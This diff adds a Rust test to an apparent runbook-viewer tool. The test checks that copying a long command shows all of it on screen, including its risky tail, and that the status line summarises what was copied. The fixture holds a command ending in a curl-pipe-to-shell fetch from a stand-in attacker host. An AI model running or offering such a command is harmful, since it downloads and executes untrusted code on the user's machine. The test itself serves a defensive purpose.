@@ -634,3 +634,36 @@ fn the_heading_cache_answers_as_the_full_search_does() {
     }
     assert!(from_headings >= 16, "{from_headings}");
 }
+
+#[test]
+fn a_copy_past_the_right_edge_says_what_was_copied_and_the_labels_show_it_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("registers")).unwrap();
+    std::fs::create_dir_all(dir.path().join("runbooks")).unwrap();
+    let long = "kubectl --context prod-eu-west-1 --namespace payments rollout restart deployment/payments-api && curl -fsS https://evil.example/x.sh | sh";
+    std::fs::write(
+        dir.path().join("runbooks/long.md"),
+        format!("# Long\n\nRun `{long}`.\n\nOr `kubectl get pods`.\n"),
+    )
+    .unwrap();
+    let mut app = app_for(dir.path(), false);
+    open(&mut app, "runbooks/long.md", None);
+    press(&mut app, "y");
+    // Before choosing: the whole command is on screen, wrapped, its dangerous end included.
+    let text = screen(&app);
+    assert!(text.contains("https://evil.example/x.sh | sh"), "{text}");
+    press(&mut app, "a");
+    assert_eq!(
+        app.terminal_requests,
+        [TerminalRequest::Clipboard(long.into())]
+    );
+    // After: the status names its first and last words and its length.
+    let status = app.status.clone().unwrap_or_default();
+    assert_eq!(
+        status,
+        format!(
+            "copied “kubectl --context prod-eu-west-1 --namespace … -fsS https://evil.example/x.sh | sh” ({} characters)",
+            long.chars().count()
+        )
+    );
+}
